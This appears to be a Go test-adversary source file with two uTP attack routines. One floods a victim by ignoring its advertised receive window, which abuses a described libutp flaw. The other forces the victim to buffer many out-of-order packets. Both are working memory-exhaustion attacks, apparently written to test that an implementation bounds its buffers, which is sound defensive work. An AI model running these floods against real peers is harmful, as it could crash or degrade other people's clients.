package adversary

import (
	"errors"
	"net"
	"time"
)

// A uTP peer that ignores the receive window its victim advertises: it
// sends data in order, as fast as the victim acks, while the victim's
// reader is not reading. libutp hands in-order data on without checking
// it against its window, so whatever buffers it for the reader grows
// unless something bounds it.

// UTPWindowFlood sends total bytes on u in order, chunk bytes a packet,
// each packet resent until the victim acks it (up to 10 tries a second
// apart), whatever window the victim advertises. It returns how many
// bytes the victim acked; it stops early if the victim closes or resets
// the connection.
func UTPWindowFlood(u *UTPConn, total, chunk int) (int, error) {
	payload := make([]byte, chunk)
	sent := 0
	for sent < total {
		n := min(chunk, total-sent)
		seq := u.Seq
		acked := false
		for range 10 {
			u.Seq = seq
			if err := u.Send(UTPData, 1000, payload[:n]); err != nil {
				return sent, err
			}
			h, err := u.ReadUntil(time.Second, func(h UTPHeader) bool {
				return h.Type == UTPFin || (h.Type == UTPState && int16(h.Ack-seq) >= 0)
			})
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				continue
			}
			if err != nil || h.Type == UTPFin {
				return sent, err
			}
			acked = true
			break
		}
		if !acked {
			return sent, errors.New("uTP data never acked")
		}
		sent += n
	}
	return sent, nil
}

// UTPReorderFlood sends n packets of chunk bytes on u out of order: it
// skips the next sequence number, so the victim must hold all n for
// reordering, then sends the skipped one. It returns how many of the n
// the victim delivered with it, read off the victim's next ack.
func UTPReorderFlood(u *UTPConn, n, chunk int) (int, error) {
	payload := make([]byte, chunk)
	missing := u.Seq
	for i := range n {
		u.Seq = missing + 1 + uint16(i)
		if err := u.Send(UTPData, 1000, payload); err != nil {
			return 0, err
		}
	}
	next := u.Seq
	u.Seq = missing
	if err := u.Send(UTPData, 1000, payload); err != nil {
		return 0, err
	}
	u.Seq = next
	h, err := u.ReadUntil(5*time.Second, func(h UTPHeader) bool {
		return h.Type == UTPState && int16(h.Ack-missing) >= 0
	})
	if err != nil {
		return 0, err
	}
	return int(h.Ack - missing), nil
}
